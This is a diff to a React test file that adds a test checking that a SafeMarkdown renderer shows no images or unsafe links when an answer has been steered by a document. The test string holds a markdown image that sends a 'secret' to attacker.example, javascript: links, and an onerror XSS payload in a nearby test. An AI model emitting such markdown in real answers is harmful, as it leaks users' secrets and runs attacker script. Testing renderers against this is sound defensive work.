@@ -42,6 +42,18 @@ describe('SafeMarkdown', () => {
     expect(document.querySelector('a[href^="javascript"]')).toBeNull();
   });
 
+  it('loads no image and links nothing unsafe in an answer steered by a document', () => {
+    render(
+      <SafeMarkdown>
+        {'Summary ![client secret](https://attacker.example/leak?q=secret) and ![](//attacker.example/p.png) ![inline](data:image/png;base64,iVBORw0KGgo=) [open](javascript:fetch(1)) [ref][1]\n\n[1]: javascript:alert(1)'}
+      </SafeMarkdown>,
+    );
+    expect(document.querySelector('img')).toBeNull();
+    expect(screen.getByText('client secret')).toBeInTheDocument();
+    expect(document.querySelector('[href^="javascript"], [href*="attacker"], [src]')).toBeNull();
+    expect(screen.queryByRole('link')).toBeNull();
+  });
+
   it('does not render raw HTML', () => {
     render(<SafeMarkdown>{'<img src=x onerror="alert(1)"> plain'}</SafeMarkdown>);
     expect(document.querySelector('img')).toBeNull();
